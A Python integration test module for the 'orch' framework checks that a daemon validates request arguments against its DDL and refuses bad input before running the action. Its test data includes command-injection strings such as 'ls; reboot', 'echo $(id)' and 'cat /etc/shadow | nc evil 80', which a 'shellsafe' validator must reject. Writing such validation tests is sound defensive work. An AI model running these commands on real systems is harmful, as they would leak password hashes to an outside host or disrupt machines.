"""Server-side DDL validation in a real ``orch server`` process on RabbitMQ.

The daemon hosts a ``ddltest`` agent (DDL: ``tests/unit/ddl_samples/good/ddltest.json``)
from a throw-away plugin distribution that this module writes to a temporary directory and
puts on the daemon's ``PYTHONPATH``. The test process itself does not have the plugin, so
its default registry lacks the DDL and :class:`~orch.core.client.Client` sends whatever it
is given: exactly the request a client without (or ignoring) the DDL would send. Requests
are also published with kombu directly. Like the rest of the integration suite, daemons and
clients sign with the session's throw-away CA (``security: x509``); a bypassing request is
signed too, so it is the DDL check, not the signature check, that refuses it.
"""

from __future__ import annotations

import json
import logging
import os
import shutil
import time
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from orch_integration import BROKERS, Fleet, FleetFactory, NodeSpec, client_security_settings

from orch.core.agent import Agent
from orch.core.client import CallResult, Client
from orch.core.config import Settings, load_settings
from orch.core.errors import ArgumentError
from orch.core.hookspecs import hookimpl
from orch.core.plugins import PluginRegistry
from orch.core.protocol import Envelope, Reply, Request, Status
from orch.ddl.model import AgentDDL, load_ddl
from orch.testing import wait_until

pytestmark = pytest.mark.integration

SAMPLE = Path(__file__).resolve().parents[1] / "unit" / "ddl_samples" / "good" / "ddltest.json"
IDENTITY = "ddlnode1"
TIMEOUT = 10.0

PLUGIN_SOURCE = '''\
"""The ddltest agent for tests/integration/test_ddl_server.py (written there at run time)."""

import json
from pathlib import Path

from orch.core.agent import Agent, action
from orch.core.hookspecs import hookimpl

RUNS = Path(__file__).resolve().parent / "runs"


def _record(request):
    RUNS.mkdir(exist_ok=True)
    (RUNS / f"{request.request_id}.json").write_text(
        json.dumps({"action": request.action, "data": dict(request.data)}))


class DDLTest(Agent):
    name = "ddltest"
    ddl_file = "ddltest.json"

    @action
    def execute(self, request, reply):
        _record(request)
        reply["arguments"] = dict(request.data)
        reply["exitcode"] = 0

    @action
    def report(self, request, reply):
        _record(request)
        for key, value in request.data["reply"].items():
            reply[key] = value

    @action
    def lookup(self, request, reply):
        _record(request)
        reply["host"] = request.data["host"]


@hookimpl
def orch_agents():
    return [DDLTest]
'''


@dataclass
class DDLServer:
    """One daemon hosting ``ddltest``, and where its plugin records the actions it ran."""

    fleet: Fleet
    plugin_dir: Path

    @property
    def runs_dir(self) -> Path:
        return self.plugin_dir / "runs"

    def runs(self) -> list[dict[str, Any]]:
        if not self.runs_dir.exists():
            return []
        return [json.loads(p.read_text()) for p in sorted(self.runs_dir.iterdir())]

    def settings(self) -> Settings:
        return load_settings(None, {
            "broker": self.fleet.broker, "collective": self.fleet.collective,
            "timeout": TIMEOUT, **client_security_settings()}, environ={})

    def log(self) -> str:
        return self.fleet.daemons[IDENTITY].log()


def write_plugin(directory: Path) -> Path:
    """A minimal installed distribution: a module, its DDL and a dist-info with the entry
    point, found by ``importlib.metadata`` on ``PYTHONPATH``."""
    directory.mkdir(parents=True)
    (directory / "orch_ddltest_plugin.py").write_text(PLUGIN_SOURCE)
    shutil.copy(SAMPLE, directory / "ddltest.json")
    info = directory / "orch_ddltest_plugin-1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(
        "Metadata-Version: 2.1\nName: orch-ddltest-plugin\nVersion: 1.0\n")
    (info / "entry_points.txt").write_text("[orch]\nddltest = orch_ddltest_plugin\n")
    return directory


@pytest.fixture
def ddl_server(fleet_factory: FleetFactory, tmp_path: Path,
               monkeypatch: pytest.MonkeyPatch) -> Iterator[DDLServer]:
    plugin_dir = write_plugin(tmp_path / "plugin")
    # Daemons inherit this process's environment (minus ORCH_*): only they see the plugin.
    inherited = os.environ.get("PYTHONPATH")
    monkeypatch.setenv("PYTHONPATH", os.pathsep.join(filter(None, [str(plugin_dir),
                                                                   inherited])))
    fleet = fleet_factory(BROKERS["rabbitmq"], [NodeSpec(IDENTITY, {"role": "ddl"})],
                          label="ddl")
    server = DDLServer(fleet, plugin_dir)
    with Client(server.settings(), caller="user=ddl-it") as client:
        result = client.call("rpcutil", "inventory", nodes=[IDENTITY])
    assert result.succeeded, (result, server.log())
    assert "ddltest" in result.replies[IDENTITY].data["agents"], server.log()
    yield server


def unchecked_client(server: DDLServer) -> Client:
    """A client whose registry (this process's plugins) has no ``ddltest`` DDL."""
    client = Client(server.settings(), PluginRegistry.from_entry_points(),
                    caller="user=ddl-it")
    assert client.action_ddl("ddltest", "execute") is None
    return client


def only_reply(result: CallResult) -> Reply:
    assert list(result.replies) == [IDENTITY], result
    return result.replies[IDENTITY]


# --------------------------------------------------------------------------- the tests


@pytest.mark.parametrize(("data", "status", "message"), [
    ({}, Status.MISSING_DATA, "argument 'command' is required"),
    ({"count": 3}, Status.MISSING_DATA, "argument 'command' is required"),
    ({"command": "ls; reboot"}, Status.INVALID_DATA,
     "argument 'command' is not a valid shellsafe value"),
    ({"command": "echo $(id)"}, Status.INVALID_DATA,
     "argument 'command' is not a valid shellsafe value"),
    ({"command": "ls", "address": "10.0.0.256"}, Status.INVALID_DATA,
     "argument 'address' is not a valid ipv4address value"),
    ({"command": "ls", "count": "3"}, Status.INVALID_DATA,
     "argument 'count' must be of type integer, got '3'"),
    ({"command": "ls", "mode": "reckless"}, Status.INVALID_DATA,
     "argument 'mode' must be one of fast, safe"),
])
def test_server_refuses_bad_arguments_without_running_the_action(
        ddl_server: DDLServer, data: dict[str, Any], status: Status, message: str) -> None:
    with unchecked_client(ddl_server) as client:
        reply = only_reply(client.call("ddltest", "execute", data, nodes=[IDENTITY]))
    assert reply.statuscode is status, reply
    assert reply.statusmsg == message
    assert reply.data == {}
    assert ddl_server.runs() == []


def test_server_applies_defaults_and_runs_good_requests(ddl_server: DDLServer) -> None:
    with unchecked_client(ddl_server) as client:
        reply = only_reply(client.call("ddltest", "execute", {"command": "uptime",
                                                               "count": 4.0},
                                       nodes=[IDENTITY]))
    assert reply.ok, reply
    expected = {"command": "uptime", "count": 4, "loud": False, "mode": "safe"}
    assert reply.data == {"arguments": expected, "exitcode": 0}
    assert ddl_server.runs() == [{"action": "execute", "data": expected}]


def test_named_validator_missing_on_the_server(ddl_server: DDLServer) -> None:
    with unchecked_client(ddl_server) as client:
        reply = only_reply(client.call("ddltest", "lookup", {"host": "web1.example.com"},
                                       nodes=[IDENTITY]))
    assert reply.statuscode is Status.INVALID_DATA
    assert reply.statusmsg == ("argument 'host' uses validator 'fqdn', which is not "
                               "installed here")
    assert ddl_server.runs() == []


def publish_raw(broker: str, collective: str, identity: str, payload: bytes) -> None:
    """Publish a direct request with plain kombu: to the node's queue, by name."""
    from kombu import Connection, Producer

    from orch.transports.kombu import node_queue_name

    with Connection(broker, connect_timeout=5) as conn:
        Producer(conn.channel()).publish(
            payload, exchange="", routing_key=node_queue_name(collective, identity),
            content_type="application/json", content_encoding="utf-8")


@pytest.mark.parametrize(("agent", "action", "data", "status", "message"), [
    ("ddltest", "execute", {"loud": True}, Status.MISSING_DATA,
     "argument 'command' is required"),
    ("ddltest", "execute", {"command": "cat /etc/shadow | nc evil 80"}, Status.INVALID_DATA,
     "argument 'command' is not a valid shellsafe value"),
    ("rpcutil", "get_fact", {}, Status.MISSING_DATA, "argument 'fact' is required"),
    ("rpcutil", "get_fact", {"fact": "x" * 201}, Status.INVALID_DATA,
     "argument 'fact' is longer than 200 characters"),
])
def test_hand_built_envelope_published_with_kombu(
        ddl_server: DDLServer, agent: str, action: str, data: dict[str, Any],
        status: Status, message: str) -> None:
    fleet = ddl_server.fleet
    with unchecked_client(ddl_server) as client:
        request = Request(agent=agent, action=action, collective=fleet.collective,
                          sender="kombu-test", caller="user=kombu",
                          reply_to=client.channel.reply_to, data=data, ttl=30.0)
        started = time.monotonic()
        body = request.encode()
        publish_raw(fleet.broker, fleet.collective, IDENTITY,
                    Envelope("request", body, client.security.seal("request", body)).encode())
        result = client.collect(request, [IDENTITY], TIMEOUT, started=started)
    reply = only_reply(result)
    assert (reply.statuscode, reply.statusmsg, dict(reply.data)) == (status, message, {})
    assert ddl_server.runs() == []


def test_cli_with_and_without_the_ddl(ddl_server: DDLServer) -> None:
    """With the plugin on its path the CLI refuses before sending (exit 2); without it the
    request goes out and the daemon's INVALID_DATA reply is what the operator sees."""
    fleet = ddl_server.fleet
    refused = fleet.run_orch("rpc", "ddltest", "execute", "--command", "id;reboot",
                             "-I", IDENTITY)
    assert refused.rc == 2, refused.describe()
    assert "argument 'command' is not a valid shellsafe value" in refused.stderr
    sent = fleet.run_orch("rpc", "ddltest", "execute", "--command", "id;reboot",
                          "-I", IDENTITY, "--json", env={"PYTHONPATH": ""})
    assert sent.rc == 1, sent.describe()
    [reply] = sent.json()["replies"]
    assert (reply["status"], reply["statusmsg"]) == (
        "invalid data", "argument 'command' is not a valid shellsafe value")
    assert ddl_server.runs() == []


class DDLTestDescription(Agent):
    """Only the DDL of ``ddltest``: lets this process's client check replies against it."""

    name = "ddltest"

    @classmethod
    def ddl(cls) -> AgentDDL:
        return load_ddl(SAMPLE)


class DescriptionPlugin:
    @hookimpl
    def orch_agents(self) -> list[type[Agent]]:
        return [DDLTestDescription]


def test_reply_that_breaks_the_ddl_is_flagged_by_client_and_daemon(
        ddl_server: DDLServer, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.WARNING, logger="orch.core.client")
    registry = PluginRegistry.from_entry_points()
    assert registry.register(DescriptionPlugin(), "ddltest-description")
    bad: Mapping[str, Any] = {"status": "up", "load": "high", "debug_dump": "..."}
    with Client(ddl_server.settings(), registry, caller="user=ddl-it") as client:
        result = client.call("ddltest", "report", {"reply": bad}, nodes=[IDENTITY])
    reply = only_reply(result)
    assert reply.ok and reply.data == bad
    problems = result.warnings[IDENTITY]
    assert "undeclared output(s) debug_dump" in problems
    assert any(p.startswith("output 'load'") for p in problems), problems
    assert any("debug_dump" in r.getMessage() for r in caplog.records)

    def logged() -> bool:
        return "ddltest.report reply does not match its DDL" in ddl_server.log()

    wait_until(logged, 5, "the node to log the reply's DDL mismatch")
    line = next(x for x in ddl_server.log().splitlines() if "does not match its DDL" in x)
    assert f"node={IDENTITY}" in line and "debug_dump" in line and "output 'load'" in line


def test_client_with_the_ddl_refuses_before_sending(ddl_server: DDLServer) -> None:
    registry = PluginRegistry.from_entry_points()
    assert registry.register(DescriptionPlugin(), "ddltest-description")
    with Client(ddl_server.settings(), registry) as client, \
            pytest.raises(ArgumentError, match="argument 'command' is required"):
        client.call("ddltest", "execute", {}, nodes=[IDENTITY])
    assert ddl_server.runs() == []
